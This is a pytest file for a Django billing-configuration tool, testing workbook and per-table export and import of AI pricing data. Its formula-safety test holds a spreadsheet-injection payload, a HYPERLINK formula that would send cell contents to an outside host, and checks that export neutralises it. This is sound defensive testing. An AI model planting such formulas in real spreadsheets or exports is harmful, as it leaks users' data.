"""Export → import → export of the configuration: the whole workbook and every
table in CSV, XLSX and JSON. Importing what was exported changes nothing and
reports every row unchanged; an edited file reports and writes exactly its edits."""

import io
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from import_export.formats.base_formats import CSV, JSON, XLSX

from billingcfg import digits
from billingcfg.admin.sheets import formula_xlsx
from billingcfg.models import Product
from billingcfg.releases.restore import TABLE
from billingcfg.releases.services import DraftChanged
from billingcfg.releases.tables import SUPPLIER_NAMES
from billingcfg.sheets.resources import RESOURCES
from billingcfg.sheets.workbook import SHEETS, workbook_export, workbook_import
from rates.models import (
    AIModel,
    CreditRate,
    PriceListSupplier,
    Provider,
    ProviderCost,
    Variant,
    Workflow,
    WorkflowStep,
)
from tests.billingcfg.sheets.files import draft_snapshot, table_counts, workbook_cells, workbook_edited
from tests.factories import staff_in

pytestmark = pytest.mark.django_db

WORKBOOK_SHEETS = [
    "currencies",
    "exchange_rates",
    "products",
    "meters",
    "providers",
    "price_list_suppliers",
    "models",
    "variants",
    "provider_costs",
    "credit_rates",
    "workflows",
    "workflow_steps",
    "credit_packs",
    "subscription_plans",
    "alert_thresholds",
    "threshold_actions",
]
SHEET_TABLES = {**TABLE, SUPPLIER_NAMES.name: SUPPLIER_NAMES}


def _counts(result) -> dict[str, tuple[int, int, int, int]]:
    """(new, changed, unchanged, invalid) per sheet."""
    return {p.name: (p.new, p.changed, p.unchanged, p.invalid) for p in result.previews()}


def _all_unchanged(cells: dict[str, list[dict]]) -> dict[str, tuple[int, int, int, int]]:
    return {name: (0, 0, len(rows), 0) for name, rows in cells.items()}


# ---- the whole workbook ----------------------------------------------------------------------


def test_the_workbook_has_one_sheet_per_table_each_after_the_tables_it_points_to(demo):
    book = openpyxl.load_workbook(io.BytesIO(workbook_export()), read_only=True)

    assert book.sheetnames == WORKBOOK_SHEETS
    for position, name in enumerate(WORKBOOK_SHEETS):
        for ref in SHEET_TABLES[name].refs:
            assert WORKBOOK_SHEETS.index(ref.table) < position, f"{name} points to {ref.table}, which comes later"


def test_the_demo_workbook_imports_back_unchanged_and_exports_the_same_cells(demo):
    data = workbook_export()
    cells = workbook_cells(data)
    before = draft_snapshot()

    preview = workbook_import(data, dry_run=True, file_name="demo.xlsx")
    assert preview.valid
    assert _counts(preview) == _all_unchanged(cells)
    assert draft_snapshot() == before

    imported = workbook_import(data, dry_run=False, user=staff_in("editor"), file_name="demo.xlsx")
    assert imported.valid and not imported.changed
    assert _counts(imported) == _all_unchanged(cells)
    assert draft_snapshot() == before, "nothing written, not even history"

    assert workbook_cells(workbook_export()) == cells
    assert sum(len(rows) for rows in cells.values()) == 294
    assert cells["provider_costs"][0] == {
        "model": "claude-3-5-sonnet",
        "variant": None,
        "meter": "input_tokens",
        "supplier": "anthropic",
        "tier_threshold": None,
        "price": 3,
        "price_high": None,
        "per_units": 1000000,
        "tier_mode": None,
        "tier_meter": None,
        "currency": "USD",
        "source_url": "https://www.anthropic.com/pricing",
        "as_of": datetime(2026, 1, 1),
        "negotiated": False,
        "notes": None,
    }


def test_an_import_reviewed_on_an_older_draft_writes_nothing(demo):
    data = workbook_edited(workbook_export(), _raise_sonnet_input_price)
    preview = workbook_import(data, dry_run=True, file_name="edited.xlsx")
    Provider.objects.filter(slug="openai").update(name="OpenAI (renamed meanwhile)")
    before = draft_snapshot()

    with pytest.raises(DraftChanged) as refused:
        workbook_import(data, dry_run=False, file_name="edited.xlsx", reviewed_draft_sha256=preview.draft_sha256)

    assert refused.value.reviewed == preview.draft_sha256 != refused.value.current
    assert draft_snapshot() == before
    assert workbook_import(
        data, dry_run=False, file_name="edited.xlsx", reviewed_draft_sha256=refused.value.current
    ).changed


def _raise_sonnet_input_price(sheets):
    costs = sheets["provider_costs"]
    costs.set(costs.row(model="claude-3-5-sonnet", meter="input_tokens"), "price", 4)


def test_the_extremes_of_every_price_column_read_back_exactly(demo):
    cost = ProviderCost.objects.get(model__slug="claude-3-5-sonnet", meter__slug="input_tokens")
    ProviderCost.objects.filter(pk=cost.pk).update(price=digits.UNIT_PRICE.step, price_high=digits.UNIT_PRICE.largest)
    Workflow.objects.filter(slug="project").update(credits_per_unit=digits.CREDITS.largest)
    data = workbook_export()
    before = draft_snapshot()

    result = workbook_import(data, dry_run=False, file_name="extremes.xlsx")

    assert _counts(result) == _all_unchanged(workbook_cells(data))
    assert draft_snapshot() == before
    cost.refresh_from_db()
    assert (cost.price, cost.price_high) == (Decimal("0.00000001"), Decimal("9999999.99999999"))
    assert Workflow.objects.get(slug="project").credits_per_unit == Decimal("99999999999.9999")


def test_steps_sharing_a_position_import_back_unchanged_and_each_one_is_matched(demo):
    """Steps have no unique key: the n-th step at a position is the n-th stored one."""
    first = WorkflowStep.objects.filter(workflow__slug="coaching-session-hour", position=1).get()
    WorkflowStep.objects.create(
        workflow=first.workflow,
        position=1,
        label="Speech to text, second pass",
        model=first.model,
        variant=first.variant,
        meter=first.meter,
        quantity=Decimal("0.5"),
    )
    data = workbook_export()
    assert _counts(workbook_import(data, dry_run=True))["workflow_steps"] == (0, 0, 61, 0)

    def relabel(sheets):
        steps = sheets["workflow_steps"]
        steps.set(
            steps.row(workflow="coaching-session-hour", label="Speech to text, second pass"),
            "label",
            "Speech to text, review",
        )

    result = workbook_import(workbook_edited(data, relabel), dry_run=False, file_name="steps.xlsx")

    preview = next(p for p in result.previews() if p.name == "workflow_steps")
    assert (preview.new, preview.changed, preview.unchanged, preview.invalid) == (0, 1, 60, 0)
    assert [(row.key, row.changes) for row in preview.changed_rows] == [
        ("coaching-session-hour / 1", [("label", "Speech to text, second pass", "Speech to text, review")])
    ]
    assert list(
        WorkflowStep.objects.filter(workflow__slug="coaching-session-hour", position=1)
        .order_by("pk")
        .values_list("label", flat=True)
    ) == ["Speech to text", "Speech to text, review"]


# ---- an edited workbook ------------------------------------------------------------------------


def _edit_demo(sheets):
    costs = sheets["provider_costs"]
    costs.set(costs.row(model="claude-3-5-sonnet", meter="input_tokens"), "price", 3.25)
    sheets["providers"].append(slug="acme", name="Acme", active=True)
    sheets["models"].append(slug="acme-video", name="Acme Video", provider="acme", modality="video", active=True)
    sheets["variants"].append(model="acme-video", slug="hd", name="HD", is_default=True, sort_order=0)
    sheets["credit_rates"].append(
        product="video",
        model="acme-video",
        variant="hd",
        meter="seconds",
        credits=12,
        per_units=1,
        minimum_charge=0,
        active=True,
    )
    variants = sheets["variants"]
    variants.set(variants.row(model="kling-v2-1", slug="standard"), "is_default", False)
    variants.set(variants.row(model="kling-v2-1", slug="pro"), "is_default", True)


def test_an_edited_workbook_previews_its_edits_and_writes_nothing_on_a_dry_run(demo):
    data = workbook_edited(workbook_export(), _edit_demo)
    before = draft_snapshot()

    result = workbook_import(data, dry_run=True, file_name="edited.xlsx")

    assert result.valid and result.changed
    assert {name: counts for name, counts in _counts(result).items() if counts[:2] != (0, 0)} == {
        "providers": (1, 0, 11, 0),
        "models": (1, 0, 27, 0),
        "variants": (1, 2, 34, 0),
        "provider_costs": (0, 1, 46, 0),
        "credit_rates": (1, 0, 9, 0),
    }
    previews = {p.name: p for p in result.previews()}
    assert [(row.row, row.key, row.changes) for row in previews["provider_costs"].changed_rows] == [
        (2, "claude-3-5-sonnet / — / input_tokens / anthropic / —", [("price", "3", "3.25")])
    ]
    assert [(row.key, row.changes) for row in previews["variants"].changed_rows] == [
        ("kling-v2-1 / standard", [("is_default", "TRUE", "FALSE")]),
        ("kling-v2-1 / pro", [("is_default", "FALSE", "TRUE")]),
    ]
    assert [key for _row, key in previews["credit_rates"].new_rows] == ["video / acme-video / hd / seconds"]
    assert [key for _row, key in previews["variants"].new_rows] == ["acme-video / hd"]
    assert draft_snapshot() == before


def test_an_edited_workbook_writes_its_edits_with_history_naming_who_imported_it(demo):
    editor = staff_in("editor")
    data = workbook_edited(workbook_export(), _edit_demo)
    history_before = table_counts()

    result = workbook_import(data, dry_run=False, user=editor, file_name="edited.xlsx")

    assert result.valid
    cost = ProviderCost.objects.get(model__slug="claude-3-5-sonnet", meter__slug="input_tokens")
    assert cost.price == Decimal("3.25")
    record = cost.history.first()
    assert (record.history_type, record.history_user, record.history_change_reason) == (
        "~",
        editor,
        "Imported from workbook edited.xlsx",
    )
    assert Provider.objects.get(slug="acme").name == "Acme"
    assert AIModel.objects.get(slug="acme-video").provider.slug == "acme"
    rate = CreditRate.objects.get(model__slug="acme-video")
    assert (rate.variant.slug, rate.meter.slug, rate.credits) == ("hd", "seconds", Decimal("12"))
    assert rate.history.get().history_user == editor
    assert list(Variant.objects.filter(model__slug="kling-v2-1", is_default=True).values_list("slug", flat=True)) == [
        "pro"
    ]
    grown = {
        name: table_counts()[name] - count for name, count in history_before.items() if table_counts()[name] != count
    }
    assert grown == {
        "rates.Provider": 1,
        "rates.Provider history": 1,
        "rates.AIModel": 1,
        "rates.AIModel history": 1,
        "rates.Variant": 1,
        "rates.Variant history": 3,
        "rates.ProviderCost history": 1,
        "rates.CreditRate": 1,
        "rates.CreditRate history": 1,
    }

    again = workbook_export()
    assert _counts(workbook_import(again, dry_run=True)) == _all_unchanged(workbook_cells(again))


# ---- formula safety ----------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://example.com/?"&A1,"prices")'


def test_notes_that_a_spreadsheet_would_run_export_with_an_apostrophe_and_import_unchanged(demo):
    Provider.objects.filter(slug="anthropic").update(notes=FORMULA)
    ProviderCost.objects.filter(model__slug="claude-3-haiku", meter__slug="input_tokens").update(notes="-2+3")
    data = workbook_export()
    book = openpyxl.load_workbook(io.BytesIO(data))
    providers = book["providers"]
    notes = providers.cell(2, [c.value for c in providers[1]].index("notes") + 1)

    assert (notes.value, notes.data_type) == ("'" + FORMULA, "s")
    before = draft_snapshot()
    assert _counts(workbook_import(data, dry_run=False)) == _all_unchanged(workbook_cells(data))
    assert draft_snapshot() == before
    assert Provider.objects.get(slug="anthropic").notes == FORMULA

    csv_text = CSV().export_data(RESOURCES["providers"]().export())
    assert "'=HYPERLINK" in csv_text and ",=HYPERLINK" not in csv_text


# ---- every table in CSV, XLSX and JSON ---------------------------------------------------------


def _write(fmt: str, resource) -> bytes:
    if fmt == "xlsx":
        return XLSX().export_data(resource.export(force_native_type=True))
    text = {"csv": CSV, "json": JSON}[fmt]().export_data(resource.export())
    return text.encode()


def _read(fmt: str, data: bytes, resource_class):
    if fmt == "xlsx":
        return formula_xlsx(resource_class)().create_dataset(data)
    return {"csv": CSV, "json": JSON}[fmt](encoding="utf-8-sig").create_dataset(data)


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_every_table_round_trips_in_each_format(demo, fmt):
    editor = staff_in("editor")
    before = draft_snapshot()
    problems = []
    for name, resource_class in RESOURCES.items():
        data = _write(fmt, resource_class())
        dataset = _read(fmt, data, resource_class)
        result = resource_class().import_data(dataset, dry_run=False, user=editor, file_name=f"{name}.{fmt}")
        totals = {kind: count for kind, count in result.totals.items() if count}
        if result.has_errors() or result.has_validation_errors() or totals != {"skip": len(dataset)}:
            problems.append(
                f"{name}: {totals}, errors {[str(e.error) for e in result.base_errors]}, "
                f"invalid {[row.error_dict for row in result.invalid_rows][:3]}"
            )
        elif _write(fmt, resource_class()) != data and fmt != "xlsx":
            problems.append(f"{name}: exported again differently")
        elif fmt == "xlsx" and _read(fmt, _write(fmt, resource_class()), resource_class).dict != dataset.dict:
            problems.append(f"{name}: exported again with other cell values")
    assert problems == []
    assert draft_snapshot() == before


def test_a_csv_export_writes_decimals_exactly_as_text_and_keys_as_slugs(demo):
    text = CSV().export_data(RESOURCES["credit_rates"]().export())
    lines = text.splitlines()

    assert lines[0] == (
        "product,model,variant,meter,supplier,credits,per_units,minimum_charge,allowed_quantities,min_quantity,"
        "max_quantity,default_quantity,active,notes"
    )
    assert 'video,sora-2,,seconds,,10,1,0,"4, 8, 12",,,8,TRUE,' in lines
    assert "video,wan-2-1,720p,seconds,,5,1,0,,1,10,8,TRUE," in lines


# ---- the commands --------------------------------------------------------------------------------


def test_export_workbook_then_import_workbook_dry_run(demo, tmp_path: Path, capsys):
    path = tmp_path / "configuration.xlsx"

    call_command("export_workbook", str(path))
    exported = capsys.readouterr().out
    call_command("import_workbook", str(path), "--dry-run")
    report = capsys.readouterr().out.splitlines()

    assert exported.startswith(f"Wrote {path} (") and exported.rstrip().endswith(
        "bytes): sheets " + ", ".join(WORKBOOK_SHEETS) + "."
    )
    assert workbook_cells(path.read_bytes()) == workbook_cells(workbook_export())
    assert report[0].split() == ["currencies", "0", "new", "0", "changed", "4", "unchanged", "0", "invalid"]
    assert report[2].split() == ["products", "0", "new", "0", "changed", "4", "unchanged", "0", "invalid"]
    assert report[5].split() == ["price_list_suppliers", "0", "new", "0", "changed", "5", "unchanged", "0", "invalid"]
    assert report[8].split() == ["provider_costs", "0", "new", "0", "changed", "47", "unchanged", "0", "invalid"]
    assert len(report) == len(SHEETS) + 1
    assert report[-1] == "Dry run: nothing was written."


def test_import_workbook_writes_the_edits_as_the_named_user(demo, tmp_path: Path, capsys):
    editor = staff_in("editor")
    path = tmp_path / "edited.xlsx"
    path.write_bytes(workbook_edited(workbook_export(), _edit_demo))

    call_command("import_workbook", str(path), "--user", "editor")

    out = capsys.readouterr().out.splitlines()
    assert out[9].split() == ["credit_rates", "1", "new", "0", "changed", "9", "unchanged", "0", "invalid"]
    assert out[-1] == f"Imported {path} into the draft. Review and publish it."
    assert CreditRate.objects.get(model__slug="acme-video").history.get().history_user == editor


def test_import_workbook_refuses_a_file_with_a_bad_row_naming_it_and_writes_nothing(demo, tmp_path: Path, capsys):
    def break_two_rows(sheets):
        costs = sheets["provider_costs"]
        costs.set(costs.row(model="claude-3-5-sonnet", meter="input_tokens"), "price", -1)
        rates = sheets["credit_rates"]
        rates.set(rates.row(model="kling-v2-1"), "credits", "ten")

    path = tmp_path / "bad.xlsx"
    path.write_bytes(workbook_edited(workbook_export(), break_two_rows))
    before = draft_snapshot()

    with pytest.raises(CommandError) as refused:
        call_command("import_workbook", str(path))

    assert str(refused.value) == (
        "Nothing was imported: 2 problem(s):\n"
        "Sheet 'provider_costs', row 2, column 'price': Price cannot be negative.\n"
        "Sheet 'credit_rates', row 2, column 'credits': 'ten' is not a number"
    )
    assert refused.value.returncode == 1
    assert capsys.readouterr().out.splitlines()[8].split() == [
        "provider_costs",
        "0",
        "new",
        "0",
        "changed",
        "46",
        "unchanged",
        "1",
        "invalid",
    ]
    assert draft_snapshot() == before


def test_import_workbook_lists_the_first_100_problems_and_counts_the_rest(demo, tmp_path: Path):
    def add_bad_rows(sheets):
        for n in range(150):
            sheets["credit_rates"].append(
                product="video",
                model=f"model-{n}",
                meter="seconds",
                credits=8,
                per_units=1,
                minimum_charge=0,
                active=True,
            )

    path = tmp_path / "bad.xlsx"
    path.write_bytes(workbook_edited(workbook_export(), add_bad_rows))

    with pytest.raises(CommandError) as refused:
        call_command("import_workbook", str(path))

    lines = str(refused.value).splitlines()
    assert lines[0] == "Nothing was imported: 150 problem(s):"
    assert lines[100] == "Sheet 'credit_rates', row 110, column 'model': there is no AI model 'model-99'"
    assert lines[101:] == ["… and 50 more."]


def test_import_workbook_refuses_a_file_that_is_no_workbook(demo, tmp_path: Path):
    path = tmp_path / "prices.xlsx"
    path.write_bytes(b"model,price\nsora-2,10\n")

    with pytest.raises(CommandError) as refused:
        call_command("import_workbook", str(path), "--dry-run")

    assert str(refused.value) == (
        "Nothing was imported: 'prices.xlsx' is not an XLSX workbook (an XLSX file is a zip archive; this one is "
        "not: save it from the spreadsheet program as Excel Workbook .xlsx)"
    )


def test_import_workbook_names_a_file_it_cannot_read(db, tmp_path: Path):
    with pytest.raises(CommandError) as refused:
        call_command("import_workbook", str(tmp_path / "missing.xlsx"))

    assert str(refused.value) == f"{tmp_path / 'missing.xlsx'} cannot be read: No such file or directory"


# ---- products and suppliers --------------------------------------------------------------------


def _second_product_and_supplier(sheets):
    sheets["credit_rates"].append(
        product="coaching", model="veo-3", meter="seconds", credits=90, per_units=1, minimum_charge=0, active=True
    )
    costs = sheets["provider_costs"]
    first = costs.row(model="veo-3", variant="audio", meter="seconds")
    values = {column: costs.get(first, column) for column in costs.headers}
    costs.append(**{**values, "supplier": "fal", "price": 0.3, "negotiated": True})
    products = sheets["products"]
    products.set(products.row(slug="coaching"), "target_gross_margin_high", 0.55)
    products.set(products.row(slug="video"), "is_default", False)
    products.set(products.row(slug="coaching"), "is_default", True)
    sheets["price_list_suppliers"].append(pattern="fal_ai", supplier="fal", notes="fal's own list")


def test_a_products_rate_a_second_suppliers_cost_and_a_price_list_name_are_new_rows_keyed_by_them(demo):
    """A credit rate's key has its product and a cost's its supplier: the same model, variant and meter in
    another product or from another supplier is a row of its own. The default product can be handed over
    in one sheet."""
    data = workbook_edited(workbook_export(), _second_product_and_supplier)

    result = workbook_import(data, dry_run=False, user=staff_in("editor"), file_name="products.xlsx")

    assert result.valid
    changed = {name: counts[:2] for name, counts in _counts(result).items() if counts[:2] != (0, 0)}
    assert changed == {
        "products": (0, 2),
        "price_list_suppliers": (1, 0),
        "provider_costs": (1, 0),
        "credit_rates": (1, 0),
    }
    previews = {p.name: p for p in result.previews()}
    assert [key for _row, key in previews["credit_rates"].new_rows] == ["coaching / veo-3 / — / seconds"]
    assert [key for _row, key in previews["provider_costs"].new_rows] == ["veo-3 / audio / seconds / fal / —"]
    veo = CreditRate.objects.filter(model__slug="veo-3").order_by("product__sort_order")
    assert [(rate.product.slug, rate.credits) for rate in veo] == [
        ("video", Decimal("60")),
        ("coaching", Decimal("90")),
    ]
    cost = ProviderCost.objects.get(model__slug="veo-3", variant__slug="audio", supplier__slug="fal")
    assert (cost.price, cost.negotiated) == (Decimal("0.3"), True)
    assert Product.objects.get(is_default=True).slug == "coaching"
    assert PriceListSupplier.objects.get(pattern="fal_ai").supplier.slug == "fal"

    again = workbook_export()
    assert _counts(workbook_import(again, dry_run=True)) == _all_unchanged(workbook_cells(again))
